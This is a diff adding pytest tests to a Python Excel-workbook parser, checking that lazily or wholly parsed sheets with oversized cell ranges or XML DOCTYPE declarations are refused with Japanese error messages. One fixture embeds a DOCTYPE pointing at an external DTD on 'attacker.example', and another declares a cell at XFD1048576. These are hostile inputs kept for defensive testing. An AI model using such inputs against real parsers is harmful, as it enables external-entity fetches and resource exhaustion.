@@ -42,6 +42,7 @@ from automation.timeutil import JST
 from tests.builders import sheet, xlsx_bytes
 from tests.workbook_builders import (
     CONTENT_TYPES,
+    REL_NS,
     SHEET_NAME,
     XLSM_MAIN,
     package,
@@ -339,6 +340,68 @@ def test_sheets_adding_up_beyond_the_cell_cap_are_refused(monkeypatch: pytest.Mo
         "book.xlsx: シートのセル範囲が合計で上限 30,000 セルを超えています（シート「b」まで 2 シート）。"
         "不要なシートを削除するか、ブックを分けて保存し直してください。"
     )
+
+
+FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
+INLINE = '<row r="1"><c r="A1" t="inlineStr"><is><t>市町村</t></is></c><c r="B1"><v>1</v></c></row>'
+
+
+def two_sheets(second: str, *, shared_strings: bool) -> bytes:
+    """The minimal workbook plus a sheet ``b`` whose part is ``second``; its first sheet's
+    text is shared or inline."""
+    members = parts(
+        book=workbook_xml().replace(
+            "</sheets>", '<sheet name="b" sheetId="2" r:id="rId3"/></sheets>'
+        ),
+        rels=workbook_rels(
+            f'<Relationship Id="rId3" Type="{REL_NS}/worksheet" Target="worksheets/sheet2.xml"/>'
+        ),
+        **{"xl/worksheets/sheet2.xml": second},
+    )
+    if not shared_strings:
+        members["xl/worksheets/sheet1.xml"] = sheet_xml(INLINE)
+        del members["xl/sharedStrings.xml"]
+    return package(members)
+
+
+@pytest.mark.parametrize("shared_strings", [True, False], ids=["shared", "inline"])
+def test_a_sheet_parsed_on_demand_is_bounded_when_it_is_parsed(shared_strings: bool) -> None:
+    """A lazily parsed workbook's far cell is refused when its sheet is looked up, before
+    calamine allocates it; the other sheets read meanwhile."""
+    book = parse_workbook(
+        two_sheets(sheet_xml(FAR), shared_strings=shared_strings),
+        "book.xlsx",
+        max_bytes=MB,
+        lazy=True,
+    )
+    assert book.sheets[SHEET_NAME].rows[0][0] == "市町村"
+    with pytest.raises(DataError) as caught:
+        book.sheets["b"]
+    assert caught.value.message.startswith(
+        "book.xlsx: シート「b」のセル範囲が 17,179,869,184 セルあり、1シートの上限"
+    )
+
+
+def test_a_declaration_in_a_sheet_parsed_on_demand_is_refused_when_it_is_parsed() -> None:
+    """Without shared strings a sheet's part is first unpacked when its sheet is looked up:
+    a DOCTYPE there is refused then, naming the part."""
+    hostile = sheet_xml(INLINE, prolog='<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">')
+    book = parse_workbook(
+        two_sheets(hostile, shared_strings=False), "book.xlsx", max_bytes=MB, lazy=True
+    )
+    assert book.sheets[SHEET_NAME].rows[0][0] == "市町村"
+    with pytest.raises(DataError) as caught:
+        book.sheets["b"]
+    assert "部品 xl/worksheets/sheet2.xml に XML の DOCTYPE/ENTITY 宣言があります" in (
+        caught.value.message
+    )
+
+
+@pytest.mark.parametrize("shared_strings", [True, False], ids=["shared", "inline"])
+def test_a_workbook_parsed_whole_refuses_any_sheet_beyond_its_bounds(shared_strings: bool) -> None:
+    """Parsed whole, a workbook with one far-flung sheet is refused at once."""
+    data = two_sheets(sheet_xml(FAR), shared_strings=shared_strings)
+    assert refusal(data).startswith("book.xlsx: シート「b」のセル範囲が 17,179,869,184 セル")
 
 
 def test_a_merge_over_a_whole_column_is_clipped_to_the_table() -> None:
